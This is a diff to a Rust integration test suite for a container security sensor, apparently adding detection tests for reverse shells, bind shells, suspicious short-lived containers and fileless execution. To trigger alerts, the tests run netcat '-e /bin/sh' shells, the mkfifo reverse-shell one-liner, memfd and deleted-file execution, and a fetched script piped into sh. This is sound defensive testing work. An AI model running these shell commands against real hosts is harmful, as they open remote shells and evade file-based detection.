@@ -7,7 +7,7 @@ use std::{process::Command, time::Duration};
 
 use sensor_tests::{
     Containers, ImageTag, Sensor, assert_alert_fields, bridge_gateway, container_ip, docker, ev,
-    image, run_rm, scratch_dir, shipped_rule,
+    image, run_rm, run_sh, scratch_dir, shipped_rule,
 };
 use serde_json::Value;
 
@@ -69,25 +69,62 @@ fn crs002_container_with_dangerous_capabilities() {
     sensor.assert_no_alert("CRS-002", &benign, SETTLE);
 }
 
-#[test]
-fn crs006_short_lived_container_that_connected_out() {
-    let sensor = Sensor::start("crs006");
-    let gw = bridge_gateway();
-    let cid = run_rm(&[], &["sh", "-c", &format!("nc {gw} 9 </dev/null; exit 0")]);
-    let a = sensor.expect_alert("CRS-006", &cid);
-    assert_alert_fields(&a, "CRS-006", &cid);
-    let kinds: Vec<&str> = a["events"]
+/// The kinds of an alert's evidence events, in order.
+fn evidence_kinds(a: &Value) -> Vec<&str> {
+    a["events"]
         .as_array()
         .unwrap()
         .iter()
         .map(|e| e["kind"].as_str().unwrap())
-        .collect();
+        .collect()
+}
+
+/// A short life aggravates a suspicious act, three of them here: a reverse shell (another
+/// rule's alert), a listener that is no netcat (busybox httpd), a program run from /tmp. The
+/// ordinary short-lived containers stay quiet: a batch job fetching from a local service, a
+/// health probe, a busybox script of applets and pipelines.
+#[test]
+fn crs006_short_lived_containers_that_did_something_suspicious() {
+    let sensor = Sensor::start("crs006");
+    let shell_listener = sensor.listener(&["sh", "-c", "(echo exit; sleep 1) | nc -l -p 9001"]);
+    let shell = run_rm(&[], &["nc", &shell_listener.ip, "9001", "-e", "/bin/sh"]);
+    let a = sensor.expect_alert("CRS-006", &shell);
+    assert_alert_fields(&a, "CRS-006", &shell);
+    let kinds = evidence_kinds(&a);
     assert!(
-        kinds.contains(&"socket") && kinds.last() == Some(&"container_exited"),
+        kinds.contains(&"exec") && kinds.last() == Some(&"container_exited"),
         "evidence: {kinds:?}"
     );
-    let benign = run_rm(&[], &["true"]);
-    sensor.assert_no_alert("CRS-006", &benign, SETTLE);
+    sensor.expect_alert("CRS-009", &shell);
+
+    let listened = run_sh(&[], "httpd -f -p 7000 & sleep 1; kill $!");
+    let a = sensor.expect_alert("CRS-006", &listened);
+    assert!(evidence_kinds(&a).contains(&"socket"), "{a}");
+
+    let dropped = run_sh(&[], "cp /bin/busybox /tmp/ls && /tmp/ls / >/dev/null");
+    let a = sensor.expect_alert("CRS-006", &dropped);
+    let exe: Vec<&str> = a["events"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|e| e["process"]["exe"].as_str())
+        .collect();
+    assert!(exe.contains(&"/tmp/ls"), "{a}");
+
+    // Benign: what batch jobs, probes and small images do all day.
+    let service = sensor.listener(&["httpd", "-f", "-p", "8080", "-h", "/etc"]);
+    let fetch = format!("wget -q -O /dev/null http://{}:8080/hostname", service.ip);
+    let gw = bridge_gateway();
+    let benign = [
+        run_sh(&[], &fetch),
+        run_sh(&[], &format!("nc -w 1 {gw} 9 </dev/null; true")),
+        run_sh(
+            &[],
+            "for i in 1 2 3; do ls / | wc -l >/dev/null; sleep 0.2; done",
+        ),
+        run_rm(&[], &["true"]),
+    ];
+    sensor.assert_quiet(None, &benign, SETTLE);
 }
 
 #[test]
@@ -132,7 +169,7 @@ fn crs008_netcat_listener_with_exec() {
     assert_eq!(a["severity"], "SEVERITY_HIGH");
     // Benign: a plain client connection (no exec, no listen).
     let gw = bridge_gateway();
-    let benign = run_rm(&[], &["sh", "-c", &format!("nc {gw} 9 </dev/null; exit 0")]);
+    let benign = run_sh(&[], &format!("nc {gw} 9 </dev/null; exit 0"));
     sensor.assert_no_alert("CRS-008", &benign, SETTLE);
 }
 
@@ -154,16 +191,74 @@ fn crs009_reverse_shell_over_netcat() {
     );
     // Benign: a service that runs /bin/cat (not a shell) on its socket.
     let echo = sensor.listener(&["nc", "-ll", "-p", "9002", "-e", "/bin/cat"]);
-    run_rm(
+    run_sh(
         &[],
-        &[
-            "sh",
-            "-c",
-            &format!("echo hi | nc {} 9002 >/dev/null; exit 0", echo.ip),
-        ],
+        &format!("echo hi | nc {} 9002 >/dev/null; exit 0", echo.ip),
     );
     docker(&["rm", "-f", &echo.id]);
     sensor.assert_no_alert("CRS-009", &echo.id, SETTLE);
+}
+
+/// Reverse shells with no socket on the shell's stdio: the mkfifo one-liner with stock busybox
+/// (`cat f | sh -i | nc HOST PORT > f`), and a relay program under a name no rule knows
+/// (`pipe-relay`: connects, runs /bin/sh on pipes of its own, copies). Benign: a script
+/// fetched and piped into sh (its output goes nowhere near the network), and a script's
+/// output piped to nc.
+#[test]
+fn crs009_shells_relayed_through_pipes_by_a_pipeline_or_a_relay_tool() {
+    let sensor = Sensor::start("crs009_relay");
+    let commands = ["sh", "-c", "(echo id; sleep 2) | nc -l -p 9001"];
+    let fifo_peer = sensor.listener(&commands);
+    let fifo = run_sh(
+        &[],
+        &format!(
+            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc {} 9001 > /tmp/f; true",
+            fifo_peer.ip
+        ),
+    );
+    let a = sensor.expect_alert("CRS-009", &fifo);
+    assert_alert_fields(&a, "CRS-009", &fifo);
+    let relay = &a["events"][0];
+    assert_eq!(relay["kind"], "stdio_relay", "{a}");
+    assert_eq!(relay["stdio_relay"]["via"], "pipeline", "{a}");
+    assert_eq!(relay["stdio_relay"]["relay_comm"], "nc", "{a}");
+    assert_eq!(ev::addr(&relay["stdio_relay"]["peer"]), fifo_peer.ip, "{a}");
+
+    let tool_peer = sensor.listener(&commands);
+    let bin = env!("CARGO_BIN_EXE_pipe-relay");
+    let mount = [
+        "-v",
+        &format!("{bin}:/usr/local/bin/svc-agent:ro"),
+        "-v",
+        "/lib/x86_64-linux-gnu:/lib/x86_64-linux-gnu:ro",
+    ];
+    let tool = run_rm(&mount, &["svc-agent", &tool_peer.ip, "9001", "/bin/sh"]);
+    let a = sensor.expect_alert("CRS-009", &tool);
+    assert_alert_fields(&a, "CRS-009", &tool);
+    let relay = &a["events"][0]["stdio_relay"];
+    assert_eq!(relay["via"], "parent", "{a}");
+    assert_eq!(relay["relay_exe"], "/usr/local/bin/svc-agent", "{a}");
+
+    let service = sensor.listener(&[
+        "sh",
+        "-c",
+        "mkdir /w && echo 'echo hi' > /w/s && httpd -f -p 8080 -h /w",
+    ]);
+    let sink = sensor.listener(&["sh", "-c", "nc -l -p 9003 > /dev/null"]);
+    let benign = [
+        run_sh(
+            &[],
+            &format!("wget -q -O- http://{}:8080/s | sh", service.ip),
+        ),
+        run_sh(&[], &format!("sh -c 'ls /' | nc {} 9003; true", sink.ip)),
+    ];
+    sensor.assert_quiet(Some("CRS-009"), &benign, SETTLE);
+    let relays: Vec<Value> = sensor
+        .events()
+        .into_iter()
+        .filter(|e| e["kind"] == "stdio_relay" && benign.iter().any(|c| ev::container_id(e) == c))
+        .collect();
+    assert!(relays.is_empty(), "{relays:?}");
 }
 
 /// The ADS's benign case "a shell to an administrator's jump host": an `addresses` exception
@@ -358,21 +453,13 @@ fn crs005_sixty_megabytes_to_one_peer() {
     // Benign: 10 MB (the volume test's transfer) stays under the 50 MB threshold.
     let small = serve(10);
     let big = serve(60);
-    run_rm(
+    run_sh(
         &[],
-        &[
-            "sh",
-            "-c",
-            &format!("wget -q -O /dev/null http://{}:8000/blob", small.ip),
-        ],
+        &format!("wget -q -O /dev/null http://{}:8000/blob", small.ip),
     );
-    run_rm(
+    run_sh(
         &[],
-        &[
-            "sh",
-            "-c",
-            &format!("wget -q -O /dev/null http://{}:8000/blob", big.ip),
-        ],
+        &format!("wget -q -O /dev/null http://{}:8000/blob", big.ip),
     );
     let a = sensor.expect_alert("CRS-005", &big.id);
     assert_alert_fields(&a, "CRS-005", &big.id);
@@ -383,13 +470,9 @@ fn crs005_sixty_megabytes_to_one_peer() {
 #[test]
 fn crs011_a_flood_that_drops_events_raises_a_health_alert() {
     let sensor = Sensor::start_with("crs011", &["--net-rate", "20", "--net-burst", "20"]);
-    run_rm(
+    run_sh(
         &[],
-        &[
-            "sh",
-            "-c",
-            "end=$(( $(date +%s) + 3 )); while [ $(date +%s) -lt $end ]; do nc 127.0.0.1 1 </dev/null 2>/dev/null; done; exit 0",
-        ],
+        "end=$(( $(date +%s) + 3 )); while [ $(date +%s) -lt $end ]; do nc 127.0.0.1 1 </dev/null 2>/dev/null; done; exit 0",
     );
     let alert = sensor
         .wait_for(Duration::from_secs(20), |e| {
@@ -425,14 +508,7 @@ fn crs012_bind_shell_is_a_listen_then_a_shell_on_a_socket() {
     let sensor = Sensor::start("crs012");
     let bind_shell = sensor.listener(&["nc", "-l", "-p", "9100", "-e", "/bin/sh"]);
     let (cid, ip) = (&bind_shell.id, &bind_shell.ip);
-    run_rm(
-        &[],
-        &[
-            "sh",
-            "-c",
-            &format!("echo id | nc {ip} 9100 >/dev/null; exit 0"),
-        ],
-    );
+    run_sh(&[], &format!("echo id | nc {ip} 9100 >/dev/null; exit 0"));
     let a = sensor.expect_alert("CRS-012", cid);
     assert_alert_fields(&a, "CRS-012", cid);
     let steps: Vec<&str> = a["events"]
@@ -444,13 +520,9 @@ fn crs012_bind_shell_is_a_listen_then_a_shell_on_a_socket() {
     assert_eq!(steps, ["socket", "exec"], "the listen, then the shell: {a}");
     // Benign: a listener serving /bin/cat.
     let cat = sensor.listener(&["nc", "-l", "-p", "9101", "-e", "/bin/cat"]);
-    run_rm(
+    run_sh(
         &[],
-        &[
-            "sh",
-            "-c",
-            &format!("echo hi | nc {} 9101 >/dev/null; exit 0", cat.ip),
-        ],
+        &format!("echo hi | nc {} 9101 >/dev/null; exit 0", cat.ip),
     );
     docker(&["rm", "-f", &cat.id]);
     sensor.assert_no_alert("CRS-012", &cat.id, SETTLE);
@@ -583,4 +655,52 @@ fn crs005b_a_transfer_far_above_the_containers_own_baseline() {
     docker(&["rm", "-f", &burst, &steady]);
     sensor.assert_no_alert("CRS-005B", &steady, SETTLE);
     sensor.assert_no_alert("CRS-005", &burst, Duration::ZERO);
+}
+
+/// Fileless execution three ways, none of them by a path: a memory file (memfd_create, then
+/// fexecve), an O_TMPFILE file, and, with stock busybox only, a copy opened, deleted and run
+/// through /proc/self/fd. Benign: a copy that is deleted only after it started, and plain
+/// execs, in the same kind of container.
+#[test]
+fn crs019_fileless_execution_from_memory_and_deleted_files() {
+    let sensor = Sensor::start("crs019");
+    let bin = env!("CARGO_BIN_EXE_memfd-exec");
+    let mount = [
+        "-v",
+        &format!("{bin}:/memfd-exec:ro"),
+        "-v",
+        "/lib/x86_64-linux-gnu:/lib/x86_64-linux-gnu:ro",
+    ];
+    for (how, file) in [("memfd", "memfd:payload"), ("tmpfile", "")] {
+        let cid = run_rm(&mount, &["/memfd-exec", how, "/bin/busybox", "id"]);
+        let a = sensor.expect_alert("CRS-019", &cid);
+        assert_alert_fields(&a, "CRS-019", &cid);
+        let p = &a["events"][0]["process"];
+        assert_eq!(p["exe_unlinked"], true, "{a}");
+        if !file.is_empty() {
+            assert_eq!(p["exe_file"], file, "{a}");
+        }
+        assert_eq!(p["args"][0], "id", "{a}");
+    }
+    // busybox then finds no applet named "3" and exits: the exec is what counts.
+    let deleted = run_sh(
+        &[],
+        "(cp /bin/busybox /tmp/.x && exec 3</tmp/.x && rm /tmp/.x && exec /proc/self/fd/3); true",
+    );
+    let a = sensor.expect_alert("CRS-019", &deleted);
+    assert_alert_fields(&a, "CRS-019", &deleted);
+    assert_eq!(a["events"][0]["process"]["exe_file"], ".x", "{a}");
+
+    // Deleted after it started: the exec had a link (an upgrade in place looks like this).
+    let benign = run_sh(
+        &[],
+        "cp /bin/busybox /tmp/sleep && /tmp/sleep 2 & sleep 1; rm /tmp/sleep; wait; ls /",
+    );
+    sensor.assert_no_alert("CRS-019", &benign, SETTLE);
+    let unlinked: Vec<Value> = sensor
+        .events()
+        .into_iter()
+        .filter(|e| ev::container_id(e) == benign && e["process"]["exe_unlinked"] == true)
+        .collect();
+    assert!(unlinked.is_empty(), "{unlinked:?}");
 }
